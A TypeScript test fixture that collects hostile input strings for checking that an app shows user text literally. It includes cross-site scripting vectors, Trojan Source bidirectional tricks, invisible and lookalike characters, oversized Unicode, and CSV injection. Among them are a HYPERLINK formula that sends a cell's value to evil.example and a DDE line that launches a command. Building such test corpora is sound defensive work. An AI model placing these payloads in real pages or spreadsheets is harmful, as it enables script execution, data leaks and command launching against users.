/** Global variable that an executed hostile text sets. */
export const executionFlag = 'geistHit'

const payload = `globalThis.${executionFlag}=1`

/**
 * Texts that would execute if the app treated them as HTML, a URL or a script. They follow the
 * categories of OWASP's "Cross Site Scripting Prevention" and "XSS Filter Evasion" cheat sheets, of
 * PortSwigger's "Cross-site scripting cheat sheet", and of Heiderich's "mXSS attacks" (2013),
 * rewritten for this app.
 */
const scripts = [
  `<script>${payload}</script>`,
  `"><script src=data:text/javascript,${payload}></script>`,
  `</p></article></textarea></title></style></script><img src=x onerror="${payload}">`,
  `<svg/onload=${payload}><animate onbegin=${payload} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${executionFlag}=1</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${payload}&gt;">`,
  `<a href="javascript:${payload}" id=x tabindex=1 onfocus=${payload} autofocus>press</a>`,
  `<form action=javascript:${payload}><input type=submit autofocus></form><base href=//evil.example/>`,
  `[press](javascript:${payload}) ![x](x "onerror=${payload}") <javascript:${payload}>`,
  `<object data="data:text/html,<script>${payload}</script>"></object><embed src=javascript:${payload}>`,
  `\${${payload}} {{constructor.constructor('${payload}')()}} <%= ${payload} %> #{${payload}}`,
  `<div style="position:fixed;inset:0;background:url(javascript:${payload})">over everything</div>`,
  `&lt;img src=x onerror=${payload}&gt; &#x3C;script&#x3E;${payload}&#x3C;/script&#x3E;`,
  `javascript:${payload}//https://geist.example/`,
]

/**
 * Texts that use bidirectional controls to reorder or disguise text: Boucher and Anderson, "Trojan
 * Source" (2021), and Unicode Standard Annex 9. The last one closes the enclosing isolates first.
 */
const bidirectional = [
  'The bill is \u202E007$ \u202Cand no more',
  'access \u2067admin \u2066// \u2069 \u2069 begin',
  '\u2069\u2069\u202C\u202Eout of its box',
]

/** Texts with invisible characters: Unicode Technical Report 36. */
const invisible = [
  'no\u200Bthing \u2060to\uFEFF see\u00AD here',
  '\u200B\u2800\u3164\u{E0041}',
  'tag\u{E0074}\u{E0061}\u{E0067}',
]

/**
 * Oversized texts: stacked combining marks ('Zalgo'), an unbroken word, a wide ligature, and an
 * emoji sequence of many parts.
 */
const oversized = [
  `Z${'\u0335\u0321\u0353\u034D\u0346\u0310'.repeat(30)}a${'\u0308\u030B\u0359'.repeat(60)}lgo`,
  'W'.repeat(600),
  '﷽'.repeat(40),
  `👩${'\u200D👩'.repeat(60)}`,
]

/** Texts with a meaning in spreadsheets (OWASP, "CSV Injection"), YAML or Markdown. */
const markup = [
  `=HYPERLINK("https://evil.example/?"&A1,"press")`,
  `@SUM(1+1)*cmd|'/c calc'!A0`,
  `---\ncategory: taken over\n---\n\n# Not a title`,
  `": {"__proto__": {"${executionFlag}": 1}}, "`,
]

/**
 * The corpus: texts that a user might write, import or get from an AI. The app must show them
 * literally. The largest come last, so that lists of only the latest entries show those.
 */
export const hostileTexts: readonly string[] = [...scripts, ...bidirectional, ...invisible, ...markup, ...oversized]

/** Names that resemble 'ada' or look empty: Unicode Technical Standard 39. */
export const lookalikes: readonly string[] = [
  'аda',
  'ad\u0430',
  'ɑda',
  'ａｄａ',
  '𝐚𝐝𝐚',
  'ada\u200B',
  'a\u200Dda',
  '\uFEFFada',
  'a\u00ADda',
  'ada\u202E',
  '\u2066ada\u2069',
  'adа\u0301',
  'ada\u0307',
  'ªda',
  'Ada',
  'ADA',
  'ada\n',
  'ada\u0000',
  '\u3164\u3164\u3164',
]
